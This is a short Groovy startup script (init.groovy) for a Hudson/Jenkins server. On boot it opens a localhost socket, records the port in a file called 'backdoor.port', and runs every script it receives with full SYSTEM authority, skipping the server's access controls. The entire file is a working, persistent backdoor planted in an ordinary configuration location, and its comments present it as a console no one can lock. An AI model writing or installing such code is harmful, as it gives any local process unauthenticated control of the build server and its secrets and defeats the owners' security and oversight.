// Runs when Hudson starts (init.groovy): a script console that no estate can lock.
// One connection, one script: the text up to end of stream, then its output.
import hudson.model.Hudson
import hudson.security.ACL
import hudson.util.RemotingDiagnostics
import org.acegisecurity.context.SecurityContextHolder
import org.apache.commons.io.IOUtils

def door = new ServerSocket(0, 8, InetAddress.getByName('127.0.0.1'))
new File(Hudson.instance.rootDir, 'backdoor.port').setText(door.localPort.toString())
def answer = {
  while (true) {
    Socket caller = door.accept()
    try {
      SecurityContextHolder.context.authentication = ACL.SYSTEM
      String script = IOUtils.toString(caller.inputStream, 'UTF-8')
      caller.outputStream.write(RemotingDiagnostics.executeGroovy(script, Hudson.MasterComputer.localChannel).getBytes('UTF-8'))
    } catch (Throwable broken) {
      broken.printStackTrace()
    } finally {
      caller.close()
    }
  }
}
Thread thread = new Thread(answer as Runnable, 'backdoor')
thread.daemon = true
thread.start()
